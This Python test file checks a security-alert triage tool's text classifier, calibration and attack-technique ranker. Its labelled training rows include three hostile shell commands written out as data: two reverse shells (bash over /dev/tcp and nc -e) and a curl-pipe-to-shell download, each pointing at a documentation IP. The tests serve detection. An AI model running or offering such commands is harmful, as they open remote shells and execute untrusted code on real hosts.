"""Witness and ranker: they read wording alone, are heard as stored, and a folder without its witness is refused."""

import json
from pathlib import Path

import numpy as np
import pytest

from secassist import registry
from secassist.analyzers.techniques import CANDIDATES, nearest
from secassist.errors import ModelError
from secassist.registry import Calibration, calibration, ranker, rule_fit, witness
from secassist.templates import Prompt
from secassist.training import witnessing
from secassist.training.calibration import fit, write
from secassist.training.lesson import Lesson
from secassist.training.ranking import learn

HARMLESS = ("tar -czf backup.tgz src", "ls -lah /srv/app", "git rebase main", "systemctl restart nginx", "df -h /data")
HARMFUL = (
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "curl -s http://198.51.100.7/x | sh",
    "nc -e /bin/sh 198.51.100.7 1",
)


def lessons() -> list[Lesson]:
    prompt = Prompt(system="", user="")
    rows = [(text, False) for text in HARMLESS] + [(text, True) for text in HARMFUL]
    return [
        Lesson(analyzer="triage", prompt=prompt, answer="{}", source="ours", group=text, bad=bad, wording=f"{n} {text}")
        for n in range(4)
        for text, bad in rows
    ]


def test_a_witness_tells_the_wordings_it_was_taught_and_survives_the_disk(tmp_path: Path) -> None:
    taught = witnessing.learn(lessons())
    assert all(taught.logit(text) > 0 for text in HARMFUL)
    assert all(taught.logit(text) < 0 for text in HARMLESS)
    witness.save(taught, tmp_path)
    again = witness.load(tmp_path)
    assert again is not None
    assert again.logit(HARMFUL[0]) == pytest.approx(taught.logit(HARMFUL[0]), abs=0.02)
    assert (tmp_path / witness.FILE).stat().st_size < 1_100_000


def test_a_witness_names_the_words_that_weigh_most_as_they_stand() -> None:
    taught = witnessing.learn(lessons())
    text = "name: host7\ncommand: bash -i >& /dev/tcp/198.51.100.7/4444\nnote: git rebase main of /srv/app"
    bad, harmless = taught.telling(f"x high. | {text}", True), taught.telling(f"x high. | {text}", False)
    assert "/dev/tcp/198.51.100.7/4444" in bad and not set(bad) & set(harmless)
    assert harmless and all(word in text for word in [*bad, *harmless])
    assert "high" not in bad + harmless and "command" not in bad + harmless
    assert taught.telling(" | password: [password:ab****yz]", True) == []


RULES = {
    "Audit log deleted": ("DeleteAuditLog", "ListAuditLogs"),
    "Repository made public": ("repo.visibility_public", "repo.star"),
    "Second factor removed": ("user.factor_removed", "user.avatar_changed"),
    "Access key created": ("CreateAccessKey", "GetBucket"),
}


def ruled(title: str, action: str) -> str:
    return f" | log_type: x\nrule.title: {title}\nevent.action: {action}\nevent.result: ok"


def test_a_witness_hears_whether_a_rule_it_never_saw_fits_the_event(tmp_path: Path) -> None:
    prompt = Prompt(system="", user="")
    taught = [
        Lesson(analyzer="x", prompt=prompt, answer="{}", source="ours", group=title, bad=bad, wording=ruled(title, act))
        for title, actions in [*RULES.items()][:3] * 6
        for act, bad in zip(actions, (True, False), strict=True)
    ]
    witness.save(witnessing.learn(taught), tmp_path)
    heard = witness.load(tmp_path)
    assert heard is not None and heard.fit is not None
    fits, misses = (heard.fit.hears(ruled("Access key created", action)) for action in RULES["Access key created"])
    assert fits > misses
    assert heard.fit.hears("command: ls") == 0.0


def test_a_rule_and_an_event_are_read_as_stems_of_words() -> None:
    pair = rule_fit.read(
        "rule.title: Keys Created\nrule.id: key\nevent.eventName: CreateAccessKey\nevent.errorCode: AccessDenied"
    )
    assert pair is not None
    assert pair.title == {"key", "creat"} and {"creat", "key", "acces"} <= pair.values
    assert pair.refusals == 1 and not pair.asks_refusal and pair.lines == 2
    assert rule_fit.read("rule.title: alone") is None and rule_fit.read("event.a: alone") is None


def test_what_code_said_stands_before_the_bar_and_is_heard(tmp_path: Path) -> None:
    assert witness.facts("flow: PROVEN CWE-22 high x | text: PROVEN low").nonzero()[0].tolist() == [0, 9]
    assert not witness.facts("command: echo PROVEN high").any()
    prompt = Prompt(system="", user="")
    rows = [("flow: PROVEN", True), ("flow: NONE", False)]
    taught = [
        Lesson(analyzer="x", prompt=prompt, answer="{}", source="ours", group=text, bad=bad, wording=f"{said} | {text}")
        for said, bad in rows
        for text in HARMLESS
    ]
    witness.save(witnessing.learn(taught), tmp_path)
    heard = witness.load(tmp_path)
    assert heard is not None and heard.facts is not None
    assert heard.logit("flow: PROVEN | new text") > heard.logit("flow: NONE | new text")


TOLD = {
    "The files went to our own backup provider": False,
    "Confirmed by the owner of the backup job": False,
    "The vulnerability scanner runs every week": False,
    "Nobody here knows the account that did it": True,
    "The session came from an unknown provider": True,
    "The password was entered on a strange page": True,
}


def alert(text: str, number: int = 0) -> str:
    fields = "\n".join(f"kibana.alert.field{n}: {number}{n}a7f{n}" for n in range(40))
    return f" | {fields}\nkibana.alert.reason: {text}"


def test_a_sentence_is_heard_however_many_fields_stand_around_it(tmp_path: Path) -> None:
    prompt = Prompt(system="", user="")
    taught = [
        Lesson(analyzer="x", prompt=prompt, answer="{}", source="o", group=text, bad=bad, wording=alert(text, number))
        for number in range(6)
        for text, bad in TOLD.items()
    ]
    witness.save(witnessing.learn(taught), tmp_path)
    heard = witness.load(tmp_path)
    assert heard is not None and heard.prose is not None
    calm = heard.logit(alert("Confirmed by the owner, it is our own backup", 9))
    loud = heard.logit(alert("Nobody knows the account, the session came from a strange page", 9))
    assert loud > 0.5 > -0.5 > calm


def test_sentences_are_values_of_several_words_in_english_and_chinese() -> None:
    assert not witness.prose("process: rclone.exe\nuser: a b\npath: C:\\one\\two\\three\\four\\five")[0].size
    assert not witness.prose("rule.title: what a rule says of itself is left out")[0].size
    assert len(witness.prose("note: sent to our own backup")[0]) == 9  # five words, four pairs
    assert witness.prose("告警描述: 夜间向境外上传大量数据")[0].size
    assert np.array_equal(witness.prose("a: Sent To Our Own")[0], witness.prose("b.c: sent to our own")[0])


def test_numbers_digests_case_and_blanks_are_not_wording() -> None:
    one, other = "GET  /a?id=17 " + "a1" * 16, "get /a?id=93 " + "b2" * 20
    assert witness.plain(one) == witness.plain(other)
    assert all(np.array_equal(a, b) for a, b in zip(witness.features(one), witness.features(other), strict=True))


def test_an_empty_text_gives_the_intercept_and_surrogates_are_read() -> None:
    taught = witnessing.learn(lessons())
    assert np.isfinite(taught.logit("")) and np.isfinite(taught.logit("\ud800 x" * 5000))


def test_lessons_of_one_truth_make_no_witness() -> None:
    with pytest.raises(ValueError, match="bad and harmless"):
        witnessing.learn([one for one in lessons() if one.bad])


def test_two_voices_weigh_alike_and_are_served_as_they_were_fitted(tmp_path: Path) -> None:
    draw = np.random.default_rng(3)
    truths = draw.random(600) < 0.5
    model = np.where(truths, 0.9, -0.9) + draw.normal(0, 1, 600)
    heard = np.where(truths, 3.0, -3.0) + draw.normal(0, 2, 600)
    fitted = fit(list(1 / (1 + np.exp(-model))), [bool(t) for t in truths], heard=list(heard))
    assert fitted.auc > fitted.auc_model
    assert fitted.auc_witness is not None and fitted.auc > fitted.auc_witness
    weighed = fitted.calibration.slope * model.std(), fitted.calibration.hears * heard.std()
    assert 0.3 < weighed[0] / weighed[1] < 3
    louder = fit(list(1 / (1 + np.exp(-model))), [bool(t) for t in truths], heard=list(heard), share=0.8).calibration
    assert louder.hears / louder.slope == pytest.approx(
        4 * fitted.calibration.hears / fitted.calibration.slope, rel=1e-3
    )
    write(fitted, tmp_path)
    assert json.loads((tmp_path / "calibration.json").read_text())["hears"] == fitted.calibration.hears
    with pytest.raises(ModelError, match=r"witness\.safetensors is missing"):
        calibration(registry.Weights("triage", tmp_path, ""))
    witness.save(witnessing.learn(lessons()), tmp_path)
    served = calibration(registry.Weights("triage", tmp_path, ""))
    assert served.heard(HARMFUL[0]).intercept > served.intercept > served.heard(HARMLESS[0]).intercept


def test_what_may_be_closed_and_what_must_be_looked_at_keep_their_shares() -> None:
    draw = np.random.default_rng(5)
    truths = draw.random(3000) < 0.5
    scores = np.clip(1 / (1 + np.exp(-(np.where(truths, 2.5, -2.5) + draw.normal(0, 1.5, 3000)))), 1e-5, 1 - 1e-5)
    found = fit(list(scores), [bool(t) for t in truths]).calibration
    assert 0 < found.benign_below < found.bad_above < found.escalate_above < 1


def test_a_broken_witness_or_ranker_is_refused(tmp_path: Path) -> None:
    for file, load in ((witness.FILE, witness.load), (ranker.FILE, ranker.load)):
        (tmp_path / file).write_bytes(b"not tensors")
        with pytest.raises(ModelError, match="train it again"):
            load(tmp_path)


def test_a_ranker_puts_the_taught_technique_first_and_survives_the_disk(tmp_path: Path) -> None:
    texts = {
        "T1566": "sends a phishing mail with a malicious attachment to the victim",
        "T1053": "creates a scheduled task that starts the implant every hour",
        "T1003": "dumps credentials from the memory of lsass",
        "T1486": "encrypts the files of the victim and leaves a ransom note",
    }
    taught = learn([f"{text} in case {n}" for n in range(6) for text in texts.values()], list(texts) * 6)
    ranker.save(taught, tmp_path)
    again = ranker.load(tmp_path)
    assert again is not None
    for label, text in texts.items():
        assert again.rank(text, 2)[0] == label
    assert again.rank("...", 3) == []


def test_candidates_fuse_the_ranker_with_what_words_point_at() -> None:
    class Knows:
        def rank(self, text: str, count: int) -> list[str]:
            return ["T1486", "T9999", "T1053"][:count]

    text = "The malware created a scheduled task."
    alone, fused = nearest(text, Calibration()), nearest(text, Calibration(ranker=Knows()))
    assert "T1486" not in alone and fused[0] in ("T1486", alone[0])
    assert "T1486" in fused and "T9999" not in fused and len(fused) <= CANDIDATES


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("src_ip: 10.1.2.3", "src_ip: <inside>"),
        ("172.31.0.9 -> 172.32.0.9", "<inside> -> <outside>"),
        ("203.0.113.7:443", "<outside>:443"),
        ("http://198.51.100.1/a", "http://<outside>/a"),
        ("version 1.2.3.4b and 1.2.3.4.5", "version 1.2.3.4b and 1.2.3.4.5"),
    ],
)
def test_an_address_counts_by_its_side(text: str, said: str):
    assert witness.sided(text) == said


def test_two_addresses_of_one_side_sound_alike():
    places = [set(witness.features(f"ip: {address}")[0]) for address in ("203.0.113.7", "198.51.100.93", "10.0.0.1")]
    assert places[0] == places[1] != places[2]
